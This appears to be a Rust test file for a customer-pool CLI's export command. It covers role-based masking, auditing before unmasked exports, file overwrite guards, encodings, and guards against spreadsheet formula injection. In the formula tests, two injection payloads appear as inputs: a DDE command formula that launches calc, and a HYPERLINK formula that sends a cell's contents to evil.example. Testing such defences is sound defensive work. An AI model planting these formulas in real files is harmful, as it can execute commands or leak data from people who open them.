//! `pool export`: masking, audit before the first byte, formula guards, output files.
use std::io::Read;
use std::process::Stdio;

use calamine::Data;
use rusqlite::Connection;
use serde_json::Value;

use crate::common::fixtures::{csv_rows, data, import, two_teams};
use crate::common::workbook;
use crate::common::TestEnv;

#[test]
fn export_masks_by_role_and_logs_unmasked_exports() {
    let env = TestEnv::new();
    env.user("zhao", "sales-east", "manager");
    env.user("lihua", "sales-east", "member");
    env.user("lin", "marketing", "viewer");
    import(&env, &[&data("utf8_bom.csv")]);
    let masked = env.json_as("lihua", &["export"]);
    assert_eq!(masked[0]["phone"], "138****8001");
    assert_eq!(masked[0]["email"], "z***@yunfan.cn");
    let viewer = env.ok_as("lin", &["export"]);
    assert!(!viewer.contains("13800138001"), "{viewer}");
    env.fails_as("lin", &["export", "--unmasked"], 4);
    env.fails_as("lihua", &["export", "--unmasked"], 4);
    let full = env.json_as("zhao", &["export", "--unmasked", "--city", "杭州"]);
    assert_eq!(full[0]["phone"], "13800138001");
    let after = env
        .audit_rows("export")
        .into_iter()
        .find(|r| r.actor == "zhao")
        .and_then(|r| r.after)
        .expect("zhao's export row");
    let v: Value = serde_json::from_str(&after).unwrap();
    assert_eq!(v["rows"], 1);
    assert_eq!(v["unmasked"], true);
    assert_eq!(v["filter"], serde_json::json!({"city": "杭州"}));
    let o = env.dir.path().join("all.jsonl");
    env.ok(&["export", "--format", "jsonl", "-o", o.to_str().unwrap()]);
    assert_eq!(std::fs::read_to_string(&o).unwrap().lines().count(), 3);
}

#[test]
fn export_then_import_round_trips_every_field() {
    let env = TestEnv::new();
    import(&env, &[&data("utf8_bom.csv")]);
    import(&env, &[&data("quoted_newlines.csv")]);
    import(&env, &[&data("formula.csv")]);
    env.ok(&["edit", "1", "--stage", "customer"]);
    let f = env.dir.path().join("all.csv");
    env.ok(&["export", "--unmasked", "-o", f.to_str().unwrap()]);
    let env2 = TestEnv::new();
    let s = import(&env2, &[f.to_str().unwrap()]);
    assert_eq!(s["imported"], 7, "{s}");
    let pick = |env: &TestEnv| -> Vec<Value> {
        env.json(&["export", "--unmasked"])
            .as_array()
            .unwrap()
            .iter()
            .map(|c| {
                let mut c = c.clone();
                let o = c.as_object_mut().unwrap();
                for k in ["id", "owner", "pool", "created", "last_contact"] {
                    o.remove(k);
                }
                c
            })
            .collect()
    };
    assert_eq!(pick(&env), pick(&env2));
}

#[test]
fn an_unmasked_export_is_audited_before_its_first_byte() {
    let (env, _, _) = two_teams();
    env.ok(&["demo", "--customers", "3000"]);
    // The reader goes away after a few bytes (`| head -c 100`).
    let mut child = env
        .spawn_cmd_as("zhao")
        .args(["export", "--unmasked"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut head = [0u8; 100];
    child.stdout.take().unwrap().read_exact(&mut head).unwrap();
    let _ = child.wait();
    assert_eq!(
        env.count("audit_log WHERE action = 'export' AND actor = 'zhao'"),
        1
    );
    sqlite_only!("the rest holds the SQLite file's write lock (a server has no such lock)");
    // If the audit row cannot be written, nothing leaves.
    let holder = Connection::open(env.db()).unwrap();
    holder.execute_batch("BEGIN IMMEDIATE").unwrap();
    let out = env
        .cmd_as("zhao")
        .env("POOL_BUSY_TIMEOUT", "1")
        .args(["export", "--unmasked"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(7));
    assert!(out.stdout.is_empty(), "data left without an audit row");
    let out = env
        .cmd_as("zhao")
        .env("POOL_BUSY_TIMEOUT", "1")
        .args(["list", "--limit", "0"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(7));
    assert!(out.stdout.is_empty(), "unmasked list without an audit row");
    holder.execute_batch("ROLLBACK").unwrap();
}

#[test]
fn list_and_show_as_csv_guard_formula_cells_like_export() {
    let env = TestEnv::new();
    let evil = "=cmd|' /C calc'!A0";
    let v = env.json(&[
        "add",
        "--name",
        evil,
        "--company",
        "+SUM(1)",
        "--phone",
        "13800000001",
        "--city",
        "@杭州",
    ]);
    let id = v["id"].as_i64().expect("id").to_string();
    let export = csv_rows(&env.ok(&["export"]));
    let col = |rows: &[Vec<String>], name: &str| -> String {
        let i = rows[0].iter().position(|h| h == name).expect("column");
        rows[1][i].clone()
    };
    assert_eq!(col(&export, "name"), format!("'{evil}"));
    let list = csv_rows(&env.ok(&["list", "--format", "csv"]));
    let show = csv_rows(&env.ok(&["show", &id, "--format", "csv"]));
    for field in ["name", "company", "city"] {
        assert_eq!(col(&list, field), col(&export, field), "list {field}");
        assert_eq!(col(&show, field), col(&export, field), "show {field}");
    }
    assert_eq!(col(&list, "id"), id, "numbers are not guarded");
}

#[test]
fn existing_files_need_force_and_default_rejects_never_overwrite() {
    sqlite_only!("makes its files with backup, which writes a SQLite file");
    let env = TestEnv::new();
    let dir = env.dir.path();
    let mine = dir.join("notes.txt");
    std::fs::write(&mine, "my own notes").unwrap();
    let m = mine.to_str().unwrap();
    env.fails_as("admin", &["export", "-o", m], 6);
    assert_eq!(std::fs::read_to_string(&mine).unwrap(), "my own notes");
    env.fails_as("admin", &["backup", m], 6);
    assert_eq!(std::fs::read_to_string(&mine).unwrap(), "my own notes");
    env.ok(&["export", "-o", m, "--force"]);
    assert!(std::fs::read_to_string(&mine).unwrap().starts_with("id,"));
    // A dangling link is not followed to create its target.
    std::os::unix::fs::symlink(dir.join("elsewhere.csv"), dir.join("dangling.csv")).unwrap();
    env.fails_as(
        "admin",
        &["export", "-o", dir.join("dangling.csv").to_str().unwrap()],
        6,
    );
    assert!(!dir.join("elsewhere.csv").exists());
    // The default rejects file of a re-run takes a new name instead of overwriting.
    let bad = dir.join("leads.csv");
    std::fs::write(&bad, "name,phone\nx,not-a-phone\n").unwrap();
    std::fs::write(dir.join("leads.csv.rejects.csv"), "someone else's file").unwrap();
    let v = env.json(&["import", bad.to_str().unwrap()]);
    assert_eq!(
        v["rejects_file"].as_str().unwrap(),
        dir.join("leads.csv.rejects-2.csv").to_str().unwrap()
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("leads.csv.rejects.csv")).unwrap(),
        "someone else's file"
    );
    // --rejects with nothing rejected leaves no empty file behind.
    let good = dir.join("good.csv");
    std::fs::write(&good, "name,phone\ny,13800000009\n").unwrap();
    let r = dir.join("r.csv");
    env.ok(&[
        "import",
        good.to_str().unwrap(),
        "--rejects",
        r.to_str().unwrap(),
    ]);
    assert!(!r.exists());
    // A previous backup may be replaced with --force; a database in use may not.
    let b = dir.join("b.db");
    env.ok(&["backup", b.to_str().unwrap()]);
    env.fails_as("admin", &["backup", b.to_str().unwrap()], 6);
    env.ok(&["backup", b.to_str().unwrap(), "--force"]);
    let busy = Connection::open(&b).unwrap();
    busy.execute_batch("PRAGMA journal_mode=WAL; CREATE TABLE IF NOT EXISTS x(y);")
        .unwrap();
    env.fails_as("admin", &["backup", b.to_str().unwrap(), "--force"], 6);
    drop(busy);
}

// ------------------------------------------------------------------ Excel

/// Customers as `export --format json` shows them, without what an import does not
/// carry over (id, owner, pool, times).
fn portable(env: &TestEnv) -> Vec<Value> {
    env.json(&["export", "--unmasked"])
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            let mut c = c.clone();
            let o = c.as_object_mut().unwrap();
            for k in ["id", "owner", "pool", "created", "last_contact"] {
                o.remove(k);
            }
            c
        })
        .collect()
}

#[test]
fn xlsx_export_round_trips_with_phones_as_text_and_no_formulas() {
    let env = TestEnv::new();
    import(&env, &[&data("utf8_bom.csv")]);
    import(&env, &[&data("quoted_newlines.csv")]);
    import(&env, &[&data("formula.csv")]);
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"点我\")";
    env.ok(&[
        "add",
        "--name",
        evil,
        "--company",
        "007 工作室",
        "--phone",
        "+86 138 0013 8099",
    ]);
    let f = env.dir.path().join("all.xlsx");
    let fs = f.to_str().unwrap();
    // The file name is enough to ask for a workbook.
    env.ok(&["export", "--unmasked", "-o", fs]);
    let rows = workbook::rows(&f);
    assert_eq!(rows[0][..4], ["id", "name", "company", "phone"]);
    assert!(workbook::bold(&f, 0, 0), "header row bold");
    let cells = workbook::cells(&f);
    let phone_col = 3;
    for r in 1..rows.len() {
        match cells.get((r, phone_col)) {
            Some(Data::String(_)) | Some(Data::Empty) | None => {}
            other => panic!("phone in row {r} is not a text cell: {other:?}"),
        }
    }
    let mine = rows
        .iter()
        .find(|r| r[1] == evil)
        .expect("the formula-like name");
    assert_eq!(mine[2], "007 工作室");
    assert_eq!(mine[3], "+86 138 0013 8099");
    assert!(rows.iter().any(|r| r[1] == "张伟"), "Chinese text intact");
    assert!(
        workbook::formulas(&f).is_empty(),
        "a text cell became a formula: {:?}",
        workbook::formulas(&f)
    );
    // Dates as text, the same as in CSV.
    let csv = csv_rows(&env.ok(&["export", "--unmasked"]));
    let created = rows[0].iter().position(|h| h == "created").unwrap();
    assert_eq!(rows[1][created], csv[1][created]);
    assert!(matches!(cells.get((1, created)), Some(Data::String(_))));

    let env2 = TestEnv::new();
    let s = import(&env2, &[fs]);
    assert_eq!(s["encoding"], "xlsx", "{s}");
    assert_eq!(s["rejected"], 0, "{s}");
    assert_eq!(portable(&env), portable(&env2));
}

#[test]
fn a_viewers_xlsx_export_is_masked_exactly_like_csv() {
    let env = TestEnv::new();
    env.user("lin", "marketing", "viewer");
    env.user("zhao", "sales-east", "manager");
    import(&env, &[&data("utf8_bom.csv")]);
    env.ok(&[
        "add",
        "--name",
        "赵客户",
        "--phone",
        "13912345678",
        "--email",
        "boss@corp.cn",
        "--notes",
        "call 13912345678 or boss@corp.cn",
    ]);
    for (who, extra) in [("lin", None), ("zhao", Some("--unmasked"))] {
        let f = env.dir.path().join(format!("{who}.xlsx"));
        let mut args = vec!["export", "--format", "xlsx", "-o", f.to_str().unwrap()];
        args.extend(extra);
        env.ok_as(who, &args);
        let mut csv_args = vec!["export"];
        csv_args.extend(extra);
        let csv = csv_rows(&env.ok_as(who, &csv_args));
        let xlsx = workbook::rows(&f);
        assert_eq!(xlsx.len(), csv.len(), "{who}");
        for (x, c) in xlsx.iter().zip(&csv) {
            // CSV guards formula-like cells with a quote; the workbook needs no guard.
            let c: Vec<String> = c
                .iter()
                .map(|s| match s.strip_prefix('\'') {
                    Some(rest) if rest.starts_with(['=', '+', '-', '@', '\'']) => rest.into(),
                    _ => s.clone(),
                })
                .collect();
            assert_eq!(x, &c, "{who}");
        }
        let all = xlsx.concat().join("|");
        if who == "lin" {
            assert!(!all.contains("13912345678"), "viewer sees a phone: {all}");
            assert!(
                !all.contains("boss@corp.cn"),
                "viewer sees an e-mail: {all}"
            );
            assert!(all.contains("139****5678"), "{all}");
        } else {
            // A manager unmasks the pool, not another team's customer.
            assert!(all.contains("13800138001"), "{all}");
            assert!(!all.contains("13912345678"), "{all}");
        }
    }
    let formats: Vec<String> = env
        .audit_rows("export")
        .into_iter()
        .filter_map(|r| r.after)
        .filter(|a| a.contains("xlsx"))
        .collect();
    assert_eq!(formats.len(), 2, "every workbook export is audited");
}

#[test]
fn xlsx_output_is_never_the_database_and_never_binary_on_other_commands() {
    sqlite_only!("refuses output over the SQLite database file");
    let env = TestEnv::new();
    import(&env, &[&data("utf8_bom.csv")]);
    let before = crate::common::files::snapshot(&env.db());
    let db = env.db();
    let wal = format!("{}-wal", db.display());
    for target in [db.to_str().unwrap(), wal.as_str()] {
        let e = env.fails_as("admin", &["export", "--format", "xlsx", "-o", target], 6);
        assert!(e.contains("database"), "{e}");
        env.fails_as(
            "admin",
            &["export", "--format", "xlsx", "-o", target, "--force"],
            6,
        );
    }
    let link = env.dir.path().join("leads.xlsx");
    std::os::unix::fs::symlink(&db, &link).unwrap();
    env.fails_as(
        "admin",
        &["export", "-o", link.to_str().unwrap(), "--force"],
        6,
    );
    assert_eq!(env.integrity_check(), "ok");
    assert_eq!(
        before.len(),
        crate::common::files::snapshot(&env.db()).len()
    );
    let e = env.fails_as("admin", &["list", "--format", "xlsx"], 2);
    assert!(e.contains("pool export"), "{e}");
    env.fails_as("admin", &["export", "--format", "xlsx", "--bom"], 2);
    // No audit row, no workbook: not even an empty file is left.
    let holder = Connection::open(env.db()).unwrap();
    holder.execute_batch("BEGIN IMMEDIATE").unwrap();
    let f = env.dir.path().join("busy.xlsx");
    let out = env
        .cmd()
        .env("POOL_BUSY_TIMEOUT", "1")
        .args(["export", "--unmasked", "-o", f.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(7));
    assert!(!f.exists(), "a workbook without an audit row");
    holder.execute_batch("ROLLBACK").unwrap();
    // Redirected stdout is a file: the workbook goes there.
    let out = env.run_as("admin", &["export", "--format", "xlsx"]);
    assert!(out.status.success());
    assert!(out.stdout.starts_with(b"PK\x03\x04"));
}

#[test]
fn gbk_csv_export_decodes_to_the_utf8_export_and_refuses_what_gbk_cannot_hold() {
    let env = TestEnv::new();
    import(&env, &[&data("utf8_bom.csv")]);
    let utf8 = env.run_as("admin", &["export", "--unmasked"]).stdout;
    let gbk = env
        .run_as("admin", &["export", "--unmasked", "--encoding", "gbk"])
        .stdout;
    assert!(std::str::from_utf8(&gbk).is_err(), "GBK bytes, not UTF-8");
    let (decoded, _, bad) = encoding_rs::GBK.decode(&gbk);
    assert!(!bad);
    assert_eq!(decoded, String::from_utf8(utf8).unwrap());
    // 𠮷 (U+20BB7) is outside GBK: an error naming the customer and the column, and
    // no half-written file left behind.
    let id = env.json(&["add", "--name", "𠮷野家", "--phone", "13800000077"])["id"].to_string();
    let f = env.dir.path().join("gbk.csv");
    let e = env.fails_as(
        "admin",
        &["export", "--encoding", "gbk", "-o", f.to_str().unwrap()],
        6,
    );
    assert!(e.contains(&format!("customer {id}")), "{e}");
    assert!(e.contains("'name'") && e.contains("U+20BB7"), "{e}");
    assert!(e.contains("gb18030"), "hint: {e}");
    assert!(!f.exists(), "partial export left behind");
    let gb = env
        .run_as("admin", &["export", "--encoding", "gb18030"])
        .stdout;
    let (decoded, _, bad) = encoding_rs::GB18030.decode(&gb);
    assert!(!bad && decoded.contains("𠮷野家"));
    // The formula guard stays in every encoding.
    env.ok(&["add", "--name", "=1+1", "--phone", "13800000078"]);
    let gbk = env
        .run_as("admin", &["export", "--encoding", "gb18030"])
        .stdout;
    let rows = csv_rows(&encoding_rs::GB18030.decode(&gbk).0);
    assert!(rows.iter().any(|r| r[1] == "'=1+1"), "{rows:?}");
}

#[test]
fn a_bom_only_when_asked_and_only_for_utf8_csv() {
    let env = TestEnv::new();
    import(&env, &[&data("utf8_bom.csv")]);
    let with = env.run_as("admin", &["export", "--bom"]).stdout;
    let without = env.run_as("admin", &["export"]).stdout;
    assert!(with.starts_with(b"\xEF\xBB\xBFid,"));
    assert!(without.starts_with(b"id,"));
    assert_eq!(&with[3..], &without[..]);
    let f = env.dir.path().join("bom.csv");
    env.ok(&["export", "--bom", "-o", f.to_str().unwrap()]);
    assert_eq!(std::fs::read(&f).unwrap(), with);
    env.fails_as("admin", &["export", "--bom", "--encoding", "gbk"], 2);
    env.fails_as("admin", &["export", "--bom", "--format", "json"], 2);
    env.fails_as(
        "admin",
        &["export", "--encoding", "gbk", "--format", "jsonl"],
        2,
    );
}
